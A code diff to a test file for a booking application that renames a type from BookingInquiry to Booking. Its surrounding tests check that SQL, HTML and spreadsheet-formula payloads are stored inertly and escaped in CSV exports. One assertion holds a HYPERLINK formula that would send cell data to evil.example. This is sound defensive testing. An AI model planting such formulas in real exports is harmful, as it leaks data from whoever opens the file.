@@ -17,7 +17,7 @@ import path from 'node:path';
 import sharp from 'sharp';
 import Stripe from 'stripe';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { bookingsCsv, priceStay, type BookingInquiry } from '@ridgeline/core';
+import { bookingsCsv, priceStay, type Booking } from '@ridgeline/core';
 import { createStripeGateway } from '@ridgeline/core/node';
 import { snapshotDatabase } from '../test-support/db-snapshot.js';
 import { concretePath, registeredRoutes } from '../test-support/routes.js';
@@ -818,7 +818,7 @@ describe('free text is stored as text: SQL and HTML payloads change nothing else
     expect(after.booking_inquiries).toHaveLength((before.booking_inquiries?.length ?? 0) + 1);
     expect(after.reviews).toHaveLength((before.reviews?.length ?? 0) + 1);
 
-    const listed = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/booking-inquiries', headers: { Cookie: admin } })).text) as BookingInquiry[];
+    const listed = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/booking-inquiries', headers: { Cookie: admin } })).text) as Booking[];
     expect(listed[0]).toMatchObject({ firstName: value.slice(0, 100), location: value, message: `${value}\n${value}`, specialRequests: value });
     const reviews = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/reviews', headers: { Cookie: admin } })).text) as { reviews: { guestName: string; title: string; content: string }[] };
     expect(reviews.reviews.find((r) => r.guestName === value)).toMatchObject({ title: value, content: value });
@@ -837,7 +837,7 @@ describe('free text is stored as text: SQL and HTML payloads change nothing else
       specialRequests: '\t=2+2',
     };
     expect((await send(s.origin, json('POST', '/api/booking-inquiry', hostile))).status).toBe(201);
-    const listed = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/booking-inquiries', headers: { Cookie: admin } })).text) as BookingInquiry[];
+    const listed = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/booking-inquiries', headers: { Cookie: admin } })).text) as Booking[];
     const csv = bookingsCsv(listed);
     const row = csv.split('\r\n')[1] as string;
     expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`);
